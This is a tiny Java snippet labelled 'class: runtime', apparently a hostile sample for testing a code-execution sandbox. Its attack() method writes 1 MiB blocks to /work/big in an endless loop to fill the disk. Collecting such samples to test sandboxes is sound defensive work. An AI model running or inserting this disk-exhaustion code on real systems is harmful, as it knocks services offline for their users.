// class: runtime
class Solution {
    static int attack() throws Exception {
        try (java.io.FileOutputStream out = new java.io.FileOutputStream("/work/big")) {
            byte[] block = new byte[1 << 20];
            while (true)
                out.write(block);
        }
    }
}
